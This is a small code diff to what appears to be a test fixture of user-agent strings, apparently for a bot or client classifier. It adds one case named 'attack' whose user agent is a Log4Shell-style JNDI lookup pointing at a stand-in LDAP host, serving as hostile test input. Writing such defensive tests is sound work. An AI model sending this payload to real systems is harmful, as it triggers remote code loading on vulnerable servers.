@@ -26,6 +26,7 @@ DIRECT = {
     "says-what-it-does": {"user_agent": "Example Detector 2"},
     "hey-proxy": {"user_agent": "hey.com/imageproxy"},
     "apple-app": {"user_agent": "Unheard/1.0 CFNetwork/1410.0.3 Darwin/22.6.0"},
+    "attack": {"user_agent": "${jndi:ldap://example.org/a}"},
     "malformed": {"user_agent": "User-Agent: curl/8"},
     "tool-behind-browser": {"user_agent": f"{BROWSER} Unheard/1.0"},
     "tool-inside-brackets": {"user_agent": BROWSER.replace("Win64", "Datanyze")},
